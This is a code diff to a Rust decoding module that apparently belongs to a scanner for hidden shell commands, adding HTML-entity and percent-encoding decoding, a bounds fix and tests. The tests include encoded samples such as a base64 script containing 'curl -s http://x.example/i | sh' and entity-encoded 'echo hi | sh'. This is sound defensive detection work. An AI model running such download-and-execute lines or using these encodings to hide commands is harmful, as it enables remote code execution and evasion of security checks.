@@ -6,6 +6,8 @@
 //! - escapes in a string literal: `\x63`, octal `\143` (`printf`, `echo -e`,
 //!   `$'…'`), `\u0063`, `\u{63}`, `\U00000063`; a shell literal (`$'…'`, the
 //!   argument of `printf` or `echo`) loses its quotes, as the shell would;
+//! - HTML character references (`&#99;&#x75;…`, two or more in a row)
+//!   and percent-encoding (`%63%75%72%6c`, four bytes or more);
 //! - zero-width characters (U+200B–200D, U+2060, U+FEFF, soft hyphen)
 //!   removed;
 //! - Cyrillic and Greek look-alike letters folded to Latin inside a word that
@@ -111,8 +113,10 @@ pub(super) const REVERSED: Kinds = 1 << 10;
 pub(super) const BASE64: Kinds = 1 << 11;
 pub(super) const HEX: Kinds = 1 << 12;
 pub(super) const UTF16: Kinds = 1 << 13;
+pub(super) const ENTITIES: Kinds = 1 << 14;
+pub(super) const PERCENT: Kinds = 1 << 15;
 
-const KIND_NAMES: [(Kinds, &str); 14] = [
+const KIND_NAMES: [(Kinds, &str); 16] = [
     (HEX_ESCAPES, "hex escapes"),
     (OCTAL_ESCAPES, "octal escapes"),
     (UNICODE_ESCAPES, "unicode escapes"),
@@ -127,6 +131,8 @@ const KIND_NAMES: [(Kinds, &str); 14] = [
     (BASE64, "base64"),
     (HEX, "hex"),
     (UTF16, "UTF-16 (PowerShell -EncodedCommand)"),
+    (ENTITIES, "HTML character references"),
+    (PERCENT, "percent-encoding"),
 ];
 
 /// "decoded from hex escapes, joined strings".
@@ -171,6 +177,8 @@ struct Triggers {
     rev: bool,
     base64: bool,
     hex: bool,
+    entities: bool,
+    percent: bool,
 }
 
 impl Triggers {
@@ -204,6 +212,8 @@ impl Triggers {
                 || has("powershell")
                 || has("pwsh")
                 || has("decodebytes"),
+            entities: has("&#"),
+            percent: PERCENT_RUN.is_match(text),
             hex: has("fromhex") || has("unhexlify") || has("xxd") || has("'hex'") || has("\"hex\""),
         }
     }
@@ -220,6 +230,8 @@ impl Triggers {
             || self.rev
             || self.base64
             || self.hex
+            || self.entities
+            || self.percent
     }
 }
 
@@ -243,7 +255,9 @@ pub(super) fn decode(text: &str, lower: &[u8], lines: &LineIndex, budget: &mut B
         || triggers.look_alikes
         || triggers.ifs
         || triggers.quotes
-        || triggers.concat;
+        || triggers.concat
+        || triggers.entities
+        || triggers.percent;
     if line_wise {
         for n in 1..=lines.line_count() {
             let range = lines.line_range(text, n);
@@ -299,6 +313,18 @@ fn decode_line(line: &str, t: &Triggers, vars: &HashMap<String, String>, kinds: 
         if let Some(v) = unescape_literals(&s, &mut k) {
             s = Cow::Owned(v);
             *kinds |= k;
+        }
+    }
+    if t.entities && s.contains("&#") {
+        if let Some(v) = decode_runs(&s, &ENTITY_RUN, &ENTITY) {
+            s = Cow::Owned(v);
+            *kinds |= ENTITIES;
+        }
+    }
+    if t.percent && s.contains('%') {
+        if let Some(v) = decode_runs(&s, &PERCENT_RUN, &PERCENT_ONE) {
+            s = Cow::Owned(v);
+            *kinds |= PERCENT;
         }
     }
     if t.ifs && s.contains("IFS") {
@@ -577,6 +603,41 @@ fn ends_with_word(s: &str, word: &str) -> bool {
     s.strip_suffix(word).is_some_and(|rest| !rest.ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
 }
 
+/// Two HTML numeric character references or more in a row (`&#115;&#104;`).
+static ENTITY_RUN: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?:&#(?:[xX][0-9A-Fa-f]{1,6}|[0-9]{1,7});){2,}").unwrap());
+static ENTITY: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"&#(?:[xX](?P<h>[0-9A-Fa-f]{1,6})|(?P<d>[0-9]{1,7}));").unwrap());
+/// Four percent-encoded bytes or more in a row (`%63%75%72%6c`).
+static PERCENT_RUN: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?:%[0-9A-Fa-f]{2}){4,}").unwrap());
+static PERCENT_ONE: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"%(?P<h>[0-9A-Fa-f]{2})").unwrap());
+
+/// Decodes each run of `run` in `line`, item by item (`one`'s `h` group
+/// in hex or `d` in decimal); percent-encoded bytes are read as UTF-8.
+fn decode_runs(line: &str, run: &Regex, one: &Regex) -> Option<String> {
+    let mut changed = false;
+    let out = run.replace_all(line, |c: &regex::Captures<'_>| {
+        let percent = c[0].starts_with('%');
+        let mut bytes = Vec::new();
+        for m in one.captures_iter(&c[0]) {
+            let v = match (m.name("h"), m.name("d")) {
+                (Some(h), _) => u32::from_str_radix(h.as_str(), 16).ok(),
+                (_, Some(d)) => d.as_str().parse().ok(),
+                _ => None,
+            };
+            match (v, v.and_then(char::from_u32)) {
+                // A percent-encoded byte is one byte of UTF-8.
+                (Some(byte), _) if percent => bytes.push(byte.min(255) as u8),
+                (_, Some(ch)) => bytes.extend_from_slice(ch.encode_utf8(&mut [0; 4]).as_bytes()),
+                _ => return c[0].to_owned(),
+            }
+        }
+        changed = true;
+        String::from_utf8_lossy(&bytes).into_owned()
+    });
+    changed.then(|| out.into_owned())
+}
+
 /// `${IFS}`, `$IFS`, `${IFS%?}`, `${IFS:0:1}`: a space.
 static IFS_RE: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\$\{IFS(?:[%#:][^}]{0,8})?\}|\$IFS(?-u:\b)").unwrap());
 
@@ -793,6 +854,9 @@ fn char_code_lists(text: &str, budget: &mut Budget, out: &mut Vec<Decoded>) {
         while i < limit {
             let (radix, from) =
                 if b[i..].starts_with(b"0x") || b[i..].starts_with(b"0X") { (16, i + 2) } else { (10, i) };
+            if from >= limit {
+                break;
+            }
             let len = b[from..limit]
                 .iter()
                 .take_while(|c| if radix == 16 { c.is_ascii_hexdigit() } else { c.is_ascii_digit() })
@@ -1015,6 +1079,14 @@ mod tests {
     }
 
     #[test]
+    fn html_character_references_and_percent_encoding_are_decoded() {
+        assert_eq!(texts("Run &#101;&#x63;&#104;&#111; hi | &#115;&#104;\n"), vec!["Run echo hi | sh"]);
+        assert_eq!(texts("x=%65%63%68%6f%20hi\n"), vec!["x=echo hi"]);
+        // One escaped character or a short run is not hiding anything.
+        assert!(texts("Tom &#38; Jerry, 100%25 sure, a%20b\n").is_empty());
+    }
+
+    #[test]
     fn ifs_is_read_as_a_space() {
         assert_eq!(texts("ls${IFS}-la$IFS/tmp\n"), vec!["ls -la /tmp"]);
     }
@@ -1129,6 +1201,9 @@ mod tests {
             "'a' + ".repeat(30_000),
             "c''".repeat(50_000),
             "\\1\\2\\3\\0\\7".repeat(10_000),
+            // A code list whose hex prefix straddles the end of the window read.
+            format!("chr(x)\n[{}0x41, 0x42, 0x43]\n", " ".repeat(MAX_LIST - 2)),
+            format!("chr(x)\n[{}0x41, 0x42, 0x43]\n", " ".repeat(MAX_LIST - 1)),
         ];
         for t in &inputs {
             let mut budget = Budget::new();
@@ -1268,6 +1343,37 @@ mod tests {
         let many = format!("y=$'{inner}'\n").repeat(20_000);
         let out = check(&many);
         assert!(out.findings.len() <= RuleId::ALL.len() * super::super::MAX_FINDINGS_PER_RULE);
+    }
+
+    #[test]
+    fn a_command_deep_in_a_decoded_script_is_reported_at_the_encoded_line() {
+        let script = encode_base64(b"#!/bin/sh\nset -e\ncd /tmp\ncurl -s http://x.example/i | sh\n");
+        let t = format!("# setup\n\nimport base64\n\nS = \"{script}\"\nrun(base64.b64decode(S))\n");
+        let (line, _, decoded) = decoded_finding(&t, RuleId::DownloadExec).expect("found");
+        assert_eq!(line, 5);
+        assert!(decoded.contains("curl -s http://x.example/i | sh"), "{decoded}");
+    }
+
+    #[test]
+    fn random_bytes_through_the_rules_do_not_panic() {
+        let mut seed: u64 = 0x9E37_79B9_7F4A_7C15;
+        for round in 0..40 {
+            let mut bytes = Vec::with_capacity(4096);
+            for _ in 0..4096 {
+                seed ^= seed << 13;
+                seed ^= seed >> 7;
+                seed ^= seed << 17;
+                // Half the rounds any byte, half the bytes evasions are made of.
+                let b = if round % 2 == 0 {
+                    (seed >> 24) as u8
+                } else {
+                    let pick = b"\\x63u0'\"$IFS{}[](),+ |rev<!--->chr join base64 -d\n\xd1\x81\xe2\x80\x8b";
+                    pick[(seed % pick.len() as u64) as usize]
+                };
+                bytes.push(b);
+            }
+            let _ = check(&String::from_utf8_lossy(&bytes));
+        }
     }
 
     fn encode_base64(bytes: &[u8]) -> String {
